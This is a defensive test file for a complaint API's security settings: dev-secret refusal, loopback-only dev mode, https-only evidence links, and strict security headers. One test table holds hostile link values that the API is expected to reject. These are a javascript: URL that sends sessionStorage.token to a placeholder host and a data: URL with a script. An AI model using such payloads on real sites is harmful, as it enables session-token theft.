import { execFile } from 'node:child_process';
import path from 'node:path';
import request from 'supertest';
import { apiHost, loadConfig } from '../../config';
import { callers, errorOf, openBody, party, putOrder, useApiHarness } from './support';

/**
 * Who may get in where (docs/configuration.md, development mode): the dev secret and the dev sign-in exist only in an
 * explicit development mode on loopback; any other deployment, whatever NODE_ENV says, refuses to
 * start without real secrets. Links a caller sends are https: (http: in development) only, and the
 * console is served with a strict Content-Security-Policy.
 */

const ROOT = path.resolve(__dirname, '../..');
/** Real secrets: an HS256 key of 32 bytes or more and a carrier secret of its own. */
const REAL_SECRETS = {
  JWT_SECRET: 'a-deployment-secret-of-32-bytes-or-more',
  CARRIER_SECRETS: '*=a-carrier-secret-of-its-own',
};

/** Starts the API process as an operator would and waits for it to stop (or kills it after `ms`). */
function runApi(env: Record<string, string>, ms = 30_000): Promise<{ code: number | null; output: string }> {
  return new Promise((resolve) => {
    const child = execFile(
      process.execPath,
      ['--import', 'tsx', 'api/main.ts'],
      {
        cwd: ROOT,
        // Nothing of the test's own environment: an operator's server has only what it was given.
        env: { PATH: process.env.PATH ?? '', API_PORT: '0', MONGODB_URI: 'mongodb://127.0.0.1:1/none', ...env },
        timeout: ms,
        killSignal: 'SIGKILL',
      },
      (_err, stdout, stderr) => resolve({ code: child.exitCode, output: `${stdout}${stderr}` }),
    );
  });
}

describe('a deployment that is not development mode', () => {
  it.each([
    ['NODE_ENV=staging', { NODE_ENV: 'staging' }],
    ['NODE_ENV unset', {}],
  ])(
    'refuses to start on the dev secret with %s',
    async (_what, env) => {
      const { code, output } = await runApi(env);
      expect(code).not.toBe(0);
      expect(code).not.toBeNull();
      expect(output).toMatch(/JWT_SECRET/);
    },
    40_000,
  );

  it('refuses an HS256 secret shorter than 32 bytes', async () => {
    const { code, output } = await runApi({ NODE_ENV: 'staging', ...REAL_SECRETS, JWT_SECRET: 'x'.repeat(31) });
    expect(code).not.toBe(0);
    expect(output).toMatch(/JWT_SECRET/);
  }, 40_000);

  it('refuses the dev carrier secret', async () => {
    const { code, output } = await runApi({ NODE_ENV: 'staging', JWT_SECRET: REAL_SECRETS.JWT_SECRET });
    expect(code).not.toBe(0);
    expect(output).toMatch(/CARRIER_SECRETS/);
  }, 40_000);
});

describe('development mode', () => {
  it('listens on loopback only', async () => {
    expect(apiHost(loadConfig({ COMPLAINT_DEV_MODE: '1' }))).toBe('127.0.0.1');
    const { code, output } = await runApi({ COMPLAINT_DEV_MODE: '1', API_HOST: '0.0.0.0' });
    expect(code).not.toBe(0);
    expect(output).toMatch(/API_HOST/);
  }, 40_000);

  it('is refused beside NODE_ENV=production', async () => {
    const { code, output } = await runApi({ COMPLAINT_DEV_MODE: '1', NODE_ENV: 'production' });
    expect(code).not.toBe(0);
    expect(output).toMatch(/COMPLAINT_DEV_MODE/);
  }, 40_000);
});

describe('an API with real secrets, NODE_ENV=staging', () => {
  const h = useApiHarness({ env: { NODE_ENV: 'staging', COMPLAINT_DEV_MODE: '0', ...REAL_SECRETS } });
  const p = party();
  const as = callers(p.customerId, p.merchantId);

  it('mints no dev token: the console has no dev sign-in', async () => {
    expect((await request(h.app).post('/console/dev-token').send({ role: 'supervisor', sub: 'anyone' })).status).toBe(
      404,
    );
    expect((await request(h.app).get('/console/config.json')).body).toMatchObject({ devSignIn: false });
  });

  it('refuses an http: evidence link with 400 naming the field', async () => {
    const res = await request(h.app)
      .post('/v1/complaints')
      .set('authorization', await h.bearer(as.agent))
      .send(
        openBody(p, {
          evidence: [
            { kind: 'photo', url: 'https://img.example.com/a.jpg' },
            { kind: 'photo', url: 'http://img.example.com/b.jpg' },
          ],
        }),
      );
    expect(res.status).toBe(400);
    expect(errorOf(res).details.map((d) => d.path)).toEqual(['evidence.1.url']);
  });
});

describe('evidence links in development mode', () => {
  const h = useApiHarness({ worker: true });
  const p = party();
  const as = callers(p.customerId, p.merchantId);

  it.each([
    ['javascript:', "javascript:fetch('//x/?'+sessionStorage.token)"],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['ftp:', 'ftp://files.example.com/a.jpg'],
  ])(
    'refuses a %s link with 400 naming the field, when opening a case and when adding evidence',
    async (_scheme, url) => {
      const opened = await request(h.app)
        .post('/v1/complaints')
        .set('authorization', await h.bearer(as.customer))
        .send(openBody(p, { evidence: [{ kind: 'photo', url }] }));
      expect(opened.status).toBe(400);
      expect(errorOf(opened).details.map((d) => d.path)).toContain('evidence.0.url');

      const added = await request(h.app)
        .post(`/v1/complaints/cmp.${p.customerId}.${p.orderId}.quality_defect/evidence`)
        .set('authorization', await h.bearer(as.agent))
        .send({ items: [{ kind: 'photo', url }] });
      expect(added.status).toBe(400);
      expect(errorOf(added).details.map((d) => d.path)).toContain('items.0.url');
    },
  );

  it('accepts an http: link in development', async () => {
    putOrder(h.sandbox, p);
    const res = await request(h.app)
      .post('/v1/complaints')
      .set('authorization', await h.bearer(as.customer))
      .send(openBody(p, { evidence: [{ kind: 'photo', url: 'http://127.0.0.1:3100/photo.jpg' }] }));
    expect(res.status).toBe(201);
  });
});

describe('security headers', () => {
  const h = useApiHarness();
  const directives = (header: string | undefined) =>
    new Map(
      (header ?? '')
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...values]) => [name, values]),
    );

  it('serves the console with a strict Content-Security-Policy, no framing, nosniff and a referrer policy', async () => {
    const res = await request(h.app).get('/console/');
    const csp = directives(res.headers['content-security-policy']);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('style-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['x-frame-options']).toBe('DENY');
    expect(res.headers['referrer-policy']).toMatch(
      /^(no-referrer|same-origin|strict-origin|strict-origin-when-cross-origin)$/,
    );
  });

  it('loads the console page without inline script: every script is a file from here', async () => {
    const res = await request(h.app).get('/console/');
    expect(res.status).toBe(200);
    const scripts = [...res.text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attrs, body] of scripts) {
      expect(body.trim()).toBe('');
      expect(attrs).toMatch(/src="\/console\//);
    }
  });

  it('keeps /docs working under its own policy: scripts from here only, no framing', async () => {
    const res = await request(h.app).get('/docs/');
    expect(res.status).toBe(200);
    const csp = directives(res.headers['content-security-policy']);
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
    expect((await request(h.app).get('/docs/swagger-ui-init.js')).status).toBe(200);
  });

  it('sends nosniff on API answers too', async () => {
    expect((await request(h.app).get('/v1/complaints')).headers['x-content-type-options']).toBe('nosniff');
  });
});
